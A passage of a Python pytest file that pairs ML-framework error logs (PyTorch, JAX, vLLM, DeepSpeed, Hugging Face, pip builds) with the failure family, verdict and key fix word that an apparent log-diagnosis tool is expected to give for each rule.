# ruff: noqa: E501 - a table of log lines, each as its upstream source prints it
"""Every family rule of explain, each on a log in the shape its upstream source prints, and the one verdict it gives.

The lines are written from each rule's source (the file that prints the message), not copied from the corpus; a
meta-test fails when a rule has no case here, so a new rule comes with its test.
"""

from __future__ import annotations

import io
import shlex
import subprocess
import sys

import pytest

from xladoctor.explain.engine import explain_stream
from xladoctor.explain.records import owner_of
from xladoctor.explain.rules import load_rules
from xladoctor.matrix.failures import code_named
from xladoctor.redact import redact_text

TB = 'Traceback (most recent call last):\n  File "/home/me/train.py", line 10, in <module>\n    main()\n'
LIB = '  File "/opt/venv/lib/python3.11/site-packages/{pkg}/core.py", line 5, in run\n    x = y\n'


def tb(line: str, pkg: str | None = None) -> str:
    return TB + (LIB.format(pkg=pkg) if pkg else "") + line + "\n"


# rule id -> (log, family, verdict, a word the verdict must name)
CASES: dict[str, tuple[str, str, str, str]] = {
    "user-code-error:loss_not_finite": ("[11:41:59.064379] Loss is nan, stopping training\n", "user-code-error", "not-environment", "autocast"),
    "user-code-error:config_key_missing": (tb("AttributeError: 'ConfigDict' object has no attribute 'train'", "mmcv"), "user-code-error", "unknown", "`train`"),
    "user-code-error:detector_classes_not_dataset_classes": ("AssertionError: The `num_classes` (3) in DINOHead of MMDataParallel does not matches the length of `CLASSES` 80) in CocoDataset\n", "user-code-error", "not-environment", "COCO's 80"),
    "api-version-skew:dataclass_default_refused_since_3_11": ("ValueError: mutable default <class 'transformers.training_args_seq2seq.Seq2SeqTrainingArguments'> for field training_args is not allowed: use default_factory\n", "api-version-skew", "environment", "Python 3.11"),
    "user-code-error:wrapped_model_prefix": (tb("KeyError: 'module.layers.0.skip_module.weight'"), "user-code-error", "not-environment", "consume_prefix_in_state_dict_if_present"),
    "bad-configuration:no_display": ("GLFWError: (65544) b'X11: The DISPLAY environment variable is missing'\n", "bad-configuration", "environment", "MUJOCO_GL=egl"),
    "accelerator-unavailable:egl_not_initialized": ("[F glutil.cpp:338] eglInitialize() failed\nAborted (core dumped)\n", "accelerator-unavailable", "environment", "NVIDIA_DRIVER_CAPABILITIES"),
    "user-code-error:dgl_feature_on_another_device": (tb('dgl._ffi.base.DGLError: Cannot assign node feature "feat" on device cpu to a graph on device cuda:0. Call DGLGraph.to() to copy the graph to the same device.', "dgl"), "user-code-error", "not-environment", "g.to(device)"),
    "user-code-error:rasterizer_bins_overflow": ("Bin size was too small in the coarse rasterization phase. This caused an overflow, meaning output may be incomplete. To solve, try increasing max_faces_per_bin / max_points_per_bin, decreasing bin_size, or setting bin_size to 0 to use the naive rasterization.\n", "user-code-error", "not-environment", "max_faces_per_bin"),
    "gpu-arch-unsupported:mem_efficient_attention_no_kernel": ("RuntimeError: cutlassF: no kernel found to launch!\n", "gpu-arch-unsupported", "environment", "float16"),
    "user-code-error:zero_gradient_reduced_twice": ("AssertionError: The parameter 388 has already been reduced.             Gradient computed twice for this partition.             Multiple gradient reduction is currently not supported\n", "user-code-error", "not-environment", "use_reentrant=False"),
    "user-code-error:ddp_given_a_spread_model": ("ValueError: DistributedDataParallel device_ids and output_device arguments only work with single-device/multiple-device GPU modules or CPU\nmodules, but got device_ids [0], output_device 0, and module parameters {device(type='cuda', index=0), device(type='cuda', index=1)}.\n", "user-code-error", "not-environment", "device_map"),
    "bad-configuration:gpu_uuids_read_as_indices": ('  File "/usr/local/lib/python3.10/dist-packages/deepspeed/launcher/runner.py", line 295, in <listcomp>\n    slots = [int(x) for x in slots.split(SLOT_SEP)]\nValueError: invalid literal for int() with base 10: \'GPU-8932f937\'\n', "bad-configuration", "framework-bug", "CUDA_VISIBLE_DEVICES=0,1"),
    "api-version-skew:variable_renamed": ("(RayTrainWorker pid=2273, ip=172.24.21.66) [rank7]:[W Utils.hpp:108] Warning: Environment variable NCCL_ASYNC_ERROR_HANDLING is deprecated; use TORCH_NCCL_ASYNC_ERROR_HANDLING instead (function getCvarString)\n", "api-version-skew", "environment", "TORCH_NCCL_ASYNC_ERROR_HANDLING"),
    "user-code-error:process_group_left_open": ("[rank0]:[W825 13:09:39.967659278 ProcessGroupNCCL.cpp:1538] Warning: WARNING: destroy_process_group() was not called before program exit, which can leak resources. For more info, please see https://pytorch.org/docs/stable/distributed.html#shutdown (function operator())\n", "user-code-error", "not-environment", "torch.distributed.destroy_process_group()"),
    "api-version-skew:private_collective": ("/env/lib/python3.10/site-packages/torch/distributed/distributed_c10d.py:2387: UserWarning: torch.distributed._all_gather_base is a private function and will be deprecated. Please use torch.distributed.all_gather_into_tensor instead.\n", "api-version-skew", "environment", "torch.distributed.all_gather_into_tensor"),
    "bad-configuration:setting_now_the_default": ("[rank0]:[W ProcessGroupNCCL.cpp:900] Warning: TORCH_NCCL_AVOID_RECORD_STREAMS is the default now, this environment variable is thus deprecated. (function operator())\n", "bad-configuration", "environment", "TORCH_NCCL_AVOID_RECORD_STREAMS"),
    "framework-internal-error:rendezvous_master_addr": ("master_addr is only used for static rdzv_backend and when rdzv_endpoint is not specified\n", "framework-internal-error", "framework-bug", "--rdzv_endpoint"),
    "framework-internal-error:ipv6_listener_refused": ("[W socket.cpp:436] [c10d] The server socket cannot be initialized on [::]:22010 (errno: 97 - Address family not supported by protocol).\n", "framework-internal-error", "framework-bug", "22010"),
    "bad-configuration:launcher_cannot_ssh": ("[2024-01-01 10:00:00,000] [INFO] [multinode_runner.py:80:get_cmd] Running on the following workers: node1,node2\nnode2: ssh: connect to host node2 port 22: Connection refused\npdsh@node1: node2: ssh exited with exit code 255\n", "bad-configuration", "environment", "ssh node2 hostname"),
    "version-mismatch:torch_load_needs_newer_torch": (tb("ValueError: Due to a serious vulnerability issue in `torch.load`, even with `weights_only=True`, we now require users to upgrade torch to at least v2.6 in order to use the function. This version restriction does not apply when loading files with safetensors.\nSee the vulnerability report here https://nvd.nist.gov/vuln/detail/CVE-2025-32434", "transformers/modeling_utils"), "version-mismatch", "environment", "transformers<4.52"),
    "missing-library:torchaudio_extension_unavailable": (tb("RuntimeError: list_read_formats requires sox extension which is not available. Please refer to the stacktrace above for how to resolve this.", "torchaudio/_extension"), "missing-library", "environment", "libsox-dev"),
    "gpu-arch-unsupported:gpu_models_required": (tb("RuntimeError: FlashAttention backward for head dim 256 with dropout, or head dim 224 with/without dropout requires A100/A800 or H100/H800", "flash_attn"), "gpu-arch-unsupported", "environment", "A100/A800 or H100/H800"),
    "gpu-arch-unsupported:tensorrt_unknown_sm": ("[12/12/2024-10:15:17] [E] [TRT] 1: [caskUtils.cpp::trtSmToCask::147] Error Code 1: Internal Error (Unsupported SM: 0x809)\n", "gpu-arch-unsupported", "environment", "compute capability 8.9"),
    "bad-configuration:engine_built_for_another_world_size": ("AssertionError: Engine world size (2) != Runtime world size (1)\n", "bad-configuration", "environment", "mpirun -n 2"),
    "out-of-memory:cublas_never_started": ("2018-12-13 21:57:02.575651: W tensorflow/stream_executor/stream.cc:2127] attempting to perform BLAS operation using StreamExecutor without BLAS support\n", "out-of-memory", "not-environment", "set_memory_growth"),
    "accelerator-unavailable:hip_could_not_count_gpus": ("/opt/venv/lib/python3.10/site-packages/torch/cuda/__init__.py:88: UserWarning: HIP initialization: Unexpected error from hipGetDeviceCount(). Did you run some cuda functions before calling NumHipDevices() that might have already set an error? Error 3: hipErrorNotInitialized (Triggered internally at ../c10/hip/HIPFunctions.cpp:110.)\n", "accelerator-unavailable", "environment", "/dev/kfd"),
    "gpu-arch-unsupported:tensorflow_gpu_below_minimum": ("2024-01-01 10:00:00.000000: I tensorflow/core/common_runtime/gpu/gpu_device.cc:1946] Ignoring visible gpu device (device: 0, name: Tesla K80, pci bus id: 0000:00:04.0, compute capability: 3.7) with Cuda compute capability 3.7. The minimum required Cuda capability is 5.0.\n", "gpu-arch-unsupported", "environment", "Tesla K80"),
    "module-not-found:optional_speedup_missing": ("/usr/bin/python3 /home/dp/Depth-Anything-V2/test.py\nxFormers not available\nxFormers not available\n", "module-not-found", "unknown", "A notice, not an error"),
    "user-code-error:tensor_left_on_the_cpu": (tb("RuntimeError: torch_xla/csrc/aten_xla_bridge.cpp:110 : Check failed: xtensor \n*** Begin stack trace ***\nInput tensor is not an XLA tensor: torch.FloatTensor", "torch_xla/core"), "user-code-error", "not-environment", "model.to(xm.xla_device())"),
    "version-mismatch:newer_python_type_syntax": ("Traceback (most recent call last):\n  File \"/home/me/run.py\", line 1, in <module>\n    import vllm\n  File \"/usr/lib/python3.8/site-packages/vllm/config.py\", line 52, in ModelConfig\n    tokenizer_mode: list[str] = None\nTypeError: 'type' object is not subscriptable\n", "version-mismatch", "environment", "Python 3.9 or newer"),
    "version-mismatch:package_for_another_python": ('Traceback (most recent call last):\n  File "/home/me/run.py", line 1, in <module>\n    import mylib\n  File "/usr/lib/python3.8/site-packages/mylib/core.py", line 120\n    match kind:\n          ^\nSyntaxError: invalid syntax\n', "version-mismatch", "environment", "newer Python than Python 3.8"),
    "bad-configuration:hub_refused_the_request": (tb("huggingface_hub.errors.RepositoryNotFoundError: 401 Client Error. (Request ID: Root=1-65)\n\nRepository Not Found for url: https://huggingface.co/meta-llama/Llama-2-7b/resolve/main/config.json.\nPlease make sure you specified the correct `repo_id` and `repo_type`.", "huggingface_hub/utils/_http"), "bad-configuration", "environment", "private or gated"),
    "bad-configuration:not_a_model_identifier": (tb("OSError: bert-base-uncasedd is not a local folder and is not a valid model identifier listed on 'https://huggingface.co/models'\nIf this is a private repository, make sure to pass a token having permission to this repo", "transformers/utils/hub"), "bad-configuration", "environment", "'bert-base-uncasedd'"),
    "user-code-error:model_folder_not_found": (tb("OSError: /data/runs/llama-7b/checkpoint-500 does not appear to have a file named config.json. Checkout 'https://huggingface.co//data/runs/llama-7b/checkpoint-500/None' for available files.", "transformers/utils/hub"), "user-code-error", "not-environment", "/data/runs/llama-7b/checkpoint-500"),
    "api-version-skew:deprecation_window_ended": (tb("ValueError: The deprecation tuple ('LoRAAttnProcessor2_0', '0.26.0', 'Make sure use AttnProcessor2_0 instead.') should be removed since diffusers' version 0.27.2 is >= 0.26.0", "diffusers/utils/deprecation_utils"), "api-version-skew", "environment", "diffusers<0.26.0"),
    "api-version-skew:host_callback_retired": (tb("NotImplementedError: host_callback functionality isn't supported with PJRT C API. See https://jax.readthedocs.io/en/latest/debugging/index.html and https://jax.readthedocs.io/en/latest/notebooks/external_callbacks.html for alternatives.", "gpjax/fit"), "api-version-skew", "environment", "gpjax"),
    "disk-or-permission:git_long_paths": ("  Cloning https://github.com/facebookresearch/xformers.git (to revision main) to c:\\users\\me\\appdata\\local\\temp\\pip-req-build-abc\n  error: unable to create file docs/structcutlass_1_1transform_1_1PitchLinear2DThreadTileStripminedThreadMap_3_01Shape___00_01Thread0082c3467229b12cc9dd996283ee7160.html: Filename too long\n", "disk-or-permission", "environment", "git config --global core.longpaths true"),
    "build-failure:pyo3_older_than_python": ("  Building wheel for tokenizers (pyproject.toml) ... error\n  error: subprocess-exited-with-error\n      error: the configured Python interpreter version (3.13) is newer than PyO3's maximum supported version (3.12)\n      = help: please check if an updated version of PyO3 is available. Current version: 0.21.2\n      = help: set PYO3_USE_ABI3_FORWARD_COMPATIBILITY=1 to suppress this check and build anyway using the stable ABI\n  ERROR: Failed building wheel for tokenizers\n", "build-failure", "environment", "tokenizers is being built from source for Python 3.13"),
    "build-failure:compiler_not_installed": ("  Building wheel for pycocotools (pyproject.toml) ... error\n      building 'pycocotools._mask' extension\n      error: command 'gcc' failed: No such file or directory\n  ERROR: Failed building wheel for pycocotools\n", "build-failure", "environment", "build-essential"),
    "build-failure:wheel_package_missing": ("  Running setup.py bdist_wheel for antlr4-python3-runtime ... error\n  usage: setup.py [global_opts] cmd1 [cmd1_opts] [cmd2 [cmd2_opts] ...]\n  error: invalid command 'bdist_wheel'\n  ERROR: Failed building wheel for antlr4-python3-runtime\n", "build-failure", "environment", "wheel"),
    "build-failure:apple_clang_without_openmp": ("      clang: error: unsupported option '-fopenmp'\n      error: command '/usr/bin/clang' failed with exit code 1\n", "build-failure", "environment", "brew install libomp"),
    "build-failure:compiler_killed_for_memory": ("      g++: fatal error: Killed signal terminated program cc1plus\n      compilation terminated.\n      ninja: build stopped: subcommand failed.\n", "build-failure", "environment", "MAX_JOBS"),
    "hang-timeout:ranks_missed_the_monitored_barrier": ("RuntimeError: [/opt/pytorch/third_party/gloo/gloo/transport/tcp/unbound_buffer.cc:81] Timed out waiting 1800000ms for recv operation to complete\n[E ProcessGroupGloo.cpp:138] Ranks 3, 5 failed to pass monitoredBarrier in 1800000 ms\n", "hang-timeout", "unknown", "Ranks 3, 5 never reached the monitored barrier (1800 s)"),
    "api-version-skew:datasets_patterns_for_another_fsspec": (tb("ValueError: Invalid pattern: '**' can only be an entire path component", "datasets/data_files"), "api-version-skew", "environment", "fsspec==2023.9.2"),
    "unsupported-op:no_kernel_for_the_node": (tb("onnxruntime.capi.onnxruntime_pybind11_state.NotImplemented: [ONNXRuntimeError] : 9 : NOT_IMPLEMENTED : Could not find an implementation for ConvInteger(10) node with name 'conv'", "onnxruntime/capi"), "unsupported-op", "framework-bug", "ConvInteger (opset 10)"),
    "api-version-skew:pydantic_1_code_under_pydantic_2": (tb("pydantic.errors.PydanticUserError: If you use `@root_validator` with pre=False (the default) you MUST specify `skip_on_failure=True`. Note that `@root_validator` is deprecated and should be replaced with `@model_validator`.", "deepspeed/runtime"), "api-version-skew", "environment", "deepspeed"),
    "missing-library:ffmpeg_program_missing": (tb("FileNotFoundError: [Errno 2] No such file or directory: 'ffmpeg'", "whisper"), "missing-library", "environment", "ffmpeg -version"),
    "gpu-arch-unsupported:tensorrt_engine_for_another_gpu": ("[TRT] [E] 6: The engine plan file is generated on an incompatible device, expecting compute 8.6 got compute 8.9, please rebuild.\n", "gpu-arch-unsupported", "environment", "sm_89"),
    "unsupported-op:opencv_without_gui": (tb("cv2.error: OpenCV(4.8.0) /io/opencv/modules/highgui/src/window.cpp:1272: error: (-2:Unspecified error) The function is not implemented. Rebuild the library with Windows, GTK+ 2.x or Cocoa support. If you are on Ubuntu or Debian, install libgtk2.0-dev and pkg-config, then re-run cmake or configure script in function 'cvShowImage'", "cv2"), "unsupported-op", "environment", "opencv-python-headless"),
    "build-failure:rust_compiler_missing": ("      running build_rust\n      error: can't find Rust compiler\n      \n      If you are using an outdated pip version, it is possible a prebuilt wheel is available for this package but pip is not able to install from it.\n      [end of output]\n  ERROR: Failed building wheel for tokenizers\n", "build-failure", "environment", "tokenizers"),
    "build-failure:inductor_compiler_not_found": ("torch._dynamo.exc.BackendCompilerFailed: backend='inductor' raised:\nInvalidCxxCompiler: Compiler: cl is not found.\n", "build-failure", "environment", "x64 Native Tools"),
    "gpu-arch-unsupported:torch_names_the_builds_for_this_gpu": ("/venv/torch/cuda/__init__.py:283: UserWarning: \nFound GPU0 NVIDIA GeForce RTX 5090 which is of compute capability (CC) 12.0.\nThe following list shows the CCs this version of PyTorch was built for and the hardware CCs it supports:\n- 9.0 which supports hardware CC >=9.0,<10.0\nYour installed torch==2.9.0+cu126 does not include kernels for this GPU. Reinstall the same version against a CUDA build that does, e.g.:\n  For CUDA 12.9 use pip install torch==2.9.0 --index-url https://download.pytorch.org/whl/cu129\n  warnings.warn(\n", "gpu-arch-unsupported", "environment", "whl/cu129"),
    "version-mismatch:requires_a_release": ("ValueError: nossh launcher requires DeepSpeed >= 0.14.5\n", "version-mismatch", "environment", "deepspeed>=0.14.5"),
    "out-of-memory:xla_program_too_large": ("2024-02-19 15:14:56.882326: W external/xla/xla/service/hlo_rematerialization.cc:2941] Can't reduce memory use below -30.29GiB (-32529110990 bytes) by rematerialization; only reduced to 49.62GiB (53280000080 bytes), down from 49.62GiB (53280000080 bytes) originally\n", "out-of-memory", "not-environment", "below zero"),
    "unsupported-op:miopen_no_convolution_solver": ("MIOpen Error: /long_pathname/MIOpen/src/ocl/convolutionocl.cpp:275: No suitable algorithm was found to execute the required convolution\n!!! Exception during processing !!! miopenStatusUnknownError\n", "unsupported-op", "framework-bug", "cudnn.enabled"),
    "module-not-found:pip_command_in_the_error": ("ValueError: `tiktoken` is required to read a `tiktoken` file. Install it with `pip install tiktoken`.\n", "module-not-found", "environment", "pip install tiktoken"),
    "build-failure:deepspeed_builder_sees_no_gpu": ("RuntimeError: DeepSpeed JIT builder for 'fused_adam' found no CUDA devices. Set TORCH_CUDA_ARCH_LIST or make GPUs visible.\n", "build-failure", "environment", "TORCH_CUDA_ARCH_LIST"),
    "build-failure:build_tool_missing": ("      error: [Errno 2] No such file or directory: 'cmake'\n      [end of output]\n  ERROR: Failed building wheel for sentencepiece\n", "build-failure", "environment", "pip install cmake"),
    "user-code-error:spawn_without_main_guard": (tb("RuntimeError: \n        An attempt has been made to start a new process before the\n        current process has finished its bootstrapping phase.\n\n        This probably means that you are not using fork to start your\n        child processes and you have forgotten to use the proper idiom\n        in the main module:", "multiprocessing"), "user-code-error", "not-environment", "__main__"),
    "missing-library:torchcodec_not_loaded": (tb("RuntimeError: Could not load libtorchcodec. Likely causes:\n          1. FFmpeg is not properly installed in your environment. We support\n             versions 4, 5, 6 and 7.", "torchcodec"), "missing-library", "environment", "FFmpeg"),
    "user-code-error:checkpoint_saved_on_another_gpu": (tb("RuntimeError: Attempting to deserialize object on CUDA device 2 but torch.cuda.device_count() is 1. Please use torch.load with map_location to map your storages to an existing device.", "torch"), "user-code-error", "not-environment", "map_location='cuda:0'"),
    "user-code-error:sharding_does_not_divide": (tb("ValueError: One of pjit arguments with pytree key path x was given the sharding of NamedSharding(mesh=Mesh('data': 8), spec=PartitionSpec('data',)), which implies that the global size of its dimension 0 should be divisible by 8, but it is equal to 12 (full shape: (12, 4))", "jax/_src"), "user-code-error", "not-environment", "multiple of 8"),
    "version-mismatch:ipex_for_another_torch": ("ERROR! Intel® Extension for PyTorch* needs to work with PyTorch 2.8.*, but PyTorch 2.6.0+cu124 is found. Please switch to the matching version and run again.\n", "version-mismatch", "environment", "torch 2.6"),
    "user-code-error:prompt_longer_than_context": (tb("ValueError: The decoder prompt (length 12324) is longer than the maximum model length of 8192. Make sure that `max_model_len` is no smaller than the number of text tokens.", "vllm/v1/engine"), "user-code-error", "not-environment", "--max-model-len"),
    "accelerator-unavailable:vllm_found_no_platform": (tb("RuntimeError: Failed to infer device type, please set the environment variable `VLLM_LOGGING_LEVEL=DEBUG` to turn on verbose logging to help debug the issue.", "vllm/platforms"), "accelerator-unavailable", "environment", "VLLM_LOGGING_LEVEL=DEBUG"),
    "bad-configuration:hub_connection_failed": (tb("huggingface_hub.errors.LocalEntryNotFoundError: An error happened while trying to locate the file on the Hub and we cannot find the requested files in the local cache. Please check your connection and try again or make sure your Internet connection is on.", "huggingface_hub"), "bad-configuration", "environment", "HF_HUB_OFFLINE=1"),
    "bad-configuration:tls_certificate_refused": (tb("requests.exceptions.SSLError: (MaxRetryError(\"HTTPSConnectionPool(host='huggingface.co', port=443): Max retries exceeded with url: /api/models (Caused by SSLError(SSLCertVerificationError(1, '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: self signed certificate in certificate chain (_ssl.c:1007)')))\"), '(Request ID: x)')", "huggingface_hub"), "bad-configuration", "environment", "REQUESTS_CA_BUNDLE"),
    "bad-configuration:localhost_through_proxy": (tb("ValueError: When localhost is not accessible, a shareable link must be created. Please set share=True or check your proxy settings to allow access to localhost.", "gradio"), "bad-configuration", "environment", "${NO_PROXY:+,$NO_PROXY}"),
    "hang-timeout:communicator_aborted": ("[rank1]: torch.distributed.DistBackendError: NCCL communicator was aborted on rank 1.\n", "hang-timeout", "unknown", "first failure"),
    "user-code-error:remote_code_not_trusted": (tb("ValueError: The repository for THUDM/chatglm3-6b contains custom code which must be executed to correctly load the model. You can inspect the repository content at https://hf.co/THUDM/chatglm3-6b.\nPlease pass the argument `trust_remote_code=True` to allow custom code to be run.", "transformers/dynamic_module_utils"), "user-code-error", "not-environment", "trust_remote_code=True"),
    "bad-configuration:hub_unreachable": (tb("OSError: We couldn't connect to 'https://huggingface.co' to load this file, couldn't find it in the cached files and it looks like meta-llama/Llama-2-7b-hf is not the path to a directory containing a file named config.json.\nCheckout your internet connection or see how to run the library in offline mode at 'https://huggingface.co/docs/transformers/installation#offline-mode'.", "transformers/utils"), "bad-configuration", "environment", "hf download meta-llama/Llama-2-7b-hf"),
    "bad-configuration:gated_model": (tb("OSError: You are trying to access a gated repo.\nMake sure to have access to it at https://huggingface.co/google/gemma-3-1b-pt.\n401 Client Error. (Request ID: Root=1-689)\n\nCannot access gated repo for url https://huggingface.co/google/gemma-3-1b-pt/resolve/main/config.json.", "transformers/utils"), "bad-configuration", "environment", "google/gemma-3-1b-pt"),
    "disk-or-permission:windows_long_paths": ("ERROR: Could not install packages due to an OSError: [Errno 2] No such file or directory: 'C:\\\\Users\\\\me\\\\venv\\\\Lib\\\\site-packages\\\\torch\\\\include\\\\ATen\\\\ops\\\\x.h'\nHINT: This error might have occurred since this system does not have Windows Long Path support enabled. You can find information on how to enable this at https://pip.pypa.io/warnings/enable-long-paths\n", "disk-or-permission", "environment", "LongPathsEnabled"),
    "user-code-error:uncollatable_item": (tb("TypeError: default_collate: batch must contain tensors, numpy arrays, numbers, dicts or lists; found <class 'PIL.Image.Image'>", "torch/utils/data"), "user-code-error", "not-environment", "ToTensor"),
    "bad-configuration:tcmalloc_invalid_free": ("Launching Web UI with arguments: --share --xformers\nsrc/tcmalloc.cc:283] Attempt to free invalid pointer 0x5555765d9740\n", "bad-configuration", "environment", "LD_PRELOAD"),
    "api-version-skew:stft_without_return_complex": (tb("RuntimeError: stft requires the return_complex parameter be given for real inputs, and will further require that return_complex=True in a future PyTorch release.", "torch"), "api-version-skew", "environment", "return_complex"),
    "api-version-skew:position_ids_no_longer_saved": (tb('RuntimeError: Error(s) in loading state_dict for JointModel:\n\tUnexpected key(s) in state_dict: "tagger._bert.embeddings.position_ids", "generator.bert.embeddings.position_ids".', "torch/nn/modules"), "api-version-skew", "environment", "transformers"),
    "unsupported-op:xla_has_no_platform": ("2023-03-06 13:43:15.308786: W tensorflow/core/framework/op_kernel.cc:1830] OP_REQUIRES failed at xla_ops.cc:418 : NOT_FOUND: could not find registered platform with id: 0x1682845f0\n", "unsupported-op", "framework-bug", "jit_compile"),
    "api-version-skew:tokenizer_class_unknown": (tb("ValueError: Tokenizer class Qwen2Tokenizer does not exist or is not currently imported.", "transformers/models/auto"), "api-version-skew", "environment", "transformers"),
    "module-not-found:jaxlib_not_installed": (tb("ModuleNotFoundError: jax requires jaxlib to be installed. See https://github.com/jax-ml/jax#installation for installation instructions.", "jax/_src/lib"), "module-not-found", "environment", "jaxlib"),
    "version-mismatch:jaxlib_too_old_to_say": (tb("ImportError: This version of jax requires jaxlib version >= 0.4.30.", "jax/_src/lib"), "version-mismatch", "environment", ">=0.4.30"),
    "cuda-library-mismatch:cudnn_9_10_0": (tb("RuntimeError: cuDNN 9.10.0 had a binary backward-compatibility issue due to reordered enum values affecting block-scale datatypes. Found runtime version 91000 and build version 90800. Please upgrade to 9.10.1 or above.", "jax_plugins/cuda"), "cuda-library-mismatch", "environment", "nvidia-cudnn-cu12"),
    "user-code-error:ddp_models_differ": (tb("RuntimeError: DDP expects same model across all ranks, but Rank 1 has 338 params, while rank 0 has inconsistent 340 params.", "torch/nn/parallel"), "user-code-error", "not-environment", "parameter counts"),
    "user-code-error:collective_tensor_not_contiguous": (tb("RuntimeError: Tensors must be contiguous", "torch/distributed"), "user-code-error", "not-environment", ".contiguous()"),
    "module-not-found:keras_backend_missing": (tb("RuntimeError: Unable to import TensorFlow, which is required by the TensorFlow backend. Make sure tensorflow is installed.", "keras/src/backend"), "module-not-found", "environment", "KERAS_BACKEND"),
    "out-of-memory:vllm_gpu_memory_taken": ("(EngineCore_DP0 pid=167) ERROR 02-28 16:12:13 [core.py:866] ValueError: Free memory on device (13.91/79.33 GiB) on startup is less than desired GPU memory utilization (0.95, 75.36 GiB). Decrease GPU memory utilization or reduce GPU memory used by other processes.\n", "out-of-memory", "not-environment", "gpu_memory_utilization"),
    "user-code-error:cuda_in_forked_child": (tb("RuntimeError: Cannot re-initialize CUDA in forked subprocess. To use CUDA with multiprocessing, you must use the 'spawn' start method", "torch/cuda"), "user-code-error", "not-environment", "spawn"),
    "user-code-error:heads_not_divisible_by_tp": (tb("ValueError: Total number of attention heads (28) must be divisible by tensor parallel size (8).", "vllm/config"), "user-code-error", "not-environment", "1, 2, 4, 7, 14, 28"),
    "build-failure:extension_build_failed": (tb("RuntimeError: Error building extension 'fused_adam'", "torch/utils"), "build-failure", "unknown", "fused_adam"),
    "bad-configuration:accelerate_launch_settings": (tb("ValueError: Tried to launch on distributed with multinode, but `MASTER_ADDR` env was not set, please try exporting rank 0's hostname as `MASTER_ADDR`", "accelerate"), "bad-configuration", "environment", "MASTER_ADDR"),
    "module-not-found:accelerate_needs_package": (tb("ImportError: DeepSpeed is not available => install it using `pip3 install deepspeed` or build it from source", "accelerate"), "module-not-found", "environment", "deepspeed"),
    "user-code-error:accelerator_not_made_yet": (tb("ValueError: The `PartialState` or `Accelerator` must be initialized before calling this function.", "accelerate"), "user-code-error", "not-environment", "Accelerator()"),
    "missing-library:nccl_stub_unloaded": ("jaxlib.xla_extension.XlaRuntimeError: INTERNAL: Failed to execute XLA Runtime executable: run time error: custom call 'xla.gpu.all_reduce' failed: external/xla/xla/service/gpu/nccl_utils.cc:133: NCCL operation ncclGetUniqueId(&id) failed: Unable to load NCCL library. Multi-GPU collectives will not work.\n", "missing-library", "environment", "nvidia-nccl-cu12"),
    "cuda-library-mismatch:nccl_unknown_result": ("Failed, NCCL error /src/plugins/ncclPlugin/allreducePlugin.cpp:183 'unknown result code'\n", "cuda-library-mismatch", "environment", "NCCL"),
    "bad-configuration:device_past_the_visible_ones": (tb('RuntimeError: device >= 0 && device < num_gpus INTERNAL ASSERT FAILED at "/opt/conda/conda-bld/pytorch/work/aten/src/ATen/cuda/CUDAContext.cpp":49, please report a bug to PyTorch.', "torch/cuda"), "bad-configuration", "environment", "CUDA_VISIBLE_DEVICES"),
    "gpu-arch-unsupported:cufft_internal_error": (tb("RuntimeError: cuFFT error: CUFFT_INTERNAL_ERROR", "torch"), "gpu-arch-unsupported", "environment", "cu118"),
    "build-failure:build_dependency_undeclared": ("      hint: This error likely indicates that `flash-attn@2.6.1` depends on `torch`, but doesn't declare it as a build dependency. If `flash-attn` is a first-party package, consider adding `torch` to its `build-system.requires`.\n", "build-failure", "environment", "--no-build-isolation"),
    "nccl-network:nccl_test_failure": ("node1: Test NCCL failure common.cu:1005 'remote process exited or there was a network error / '\n .. node1 pid 12345: Test failure common.cu:891\n", "nccl-network", "environment", "NCCL_SOCKET_IFNAME"),
    "glibc-version:executable_stack_refused": (tb("ImportError: libtorch_cpu.so: cannot enable executable stack as shared object requires: Invalid argument", "torch"), "glibc-version", "environment", "patchelf --clear-execstack"),
    "framework-internal-error:gdb_backtrace": ("(gdb) bt\n#0  hip::FatBinaryInfo::ExtractFatBinaryUsingCOMGR (this=0x55555b582d50, devices=std::vector of length 3) at /usr/src/debug/hipamd/src/hip_fatbin.cpp:230\n#1  0x00007fffe5a1b2c3 in hip::FatBinaryInfo::ExtractFatBinary (this=0x55555b582d50) at /usr/src/debug/hip_fatbin.cpp:120\n", "framework-internal-error", "unknown", "hip_fatbin.cpp"),
    "bad-configuration:cuda_asked_on_a_mac": ('Traceback (most recent call last):\n  File "/Users/me/proj/run.py", line 3, in <module>\n    model.cuda()\n  File "/Users/me/proj/.venv/lib/python3.11/site-packages/torch/cuda/__init__.py", line 310, in _lazy_init\n    raise AssertionError("Torch not compiled with CUDA enabled")\nAssertionError: Torch not compiled with CUDA enabled\n', "bad-configuration", "environment", "mps"),
    "build-failure:header_refuses_compiler": ("In file included from /venv/lib/python3.10/site-packages/torch/include/c10/util/C++17.h:1:\n #error You need C++17 to compile PyTorch\n", "build-failure", "environment", "gcc"),
    "bad-configuration:preload_refused": ("ERROR: ld.so: object '/usr/lib/x86_64-linux-gnu/libfoo.so' from LD_PRELOAD cannot be preloaded (cannot open shared object file): ignored.\n", "bad-configuration", "environment", "LD_PRELOAD"),
    "accelerator-unavailable:cuda_init_unknown_error": (tb("RuntimeError: CUDA unknown error - this may be due to an incorrectly set up environment, e.g. changing env variable CUDA_VISIBLE_DEVICES after program start. Setting the available devices to be zero.", "torch/cuda"), "accelerator-unavailable", "environment", "nvidia_uvm"),
    "unsupported-op:mosaic_cannot_compile": ('jaxlib.xla_extension.XlaRuntimeError: INTERNAL: Mosaic failed to compile TPU kernel: Not implemented: unsupported layout\n\nThe MLIR operation involved:\n  %5 = "tpu.repeat"(%4) : (vector<8x128xf32>) -> vector<8x256xf32>\n', "unsupported-op", "framework-bug", "tpu.repeat"),
    "version-mismatch:tensorflow_plugin_for_another_release": ("2024-01-01 10:08:56.698703: F itex/core/utils/op_kernel.cc:54] Check failed: false Multiple KernelCreateFunc registration\nAborted\n", "version-mismatch", "environment", "intel-extension-for-tensorflow"),
    "gpu-arch-unsupported:compiler_knows_no_such_gpu": ("'sm_120' is not a recognized processor for this target (ignoring processor)\n", "gpu-arch-unsupported", "environment", "triton"),
    "resolver-conflict:framework_swapped_by_install": ("Installing collected packages: torch, xformers\n  Attempting uninstall: torch\n    Found existing installation: torch 2.4.1\n    Uninstalling torch-2.4.1:\n      Successfully uninstalled torch-2.4.1\n", "resolver-conflict", "environment", "torch==2.4.1"),
    "missing-library:triton_windows_finds_no_cuda": (">>> import triton\nWARNING: Failed to find CUDA.\n>>> import torch\n", "missing-library", "environment", "CUDA_PATH"),
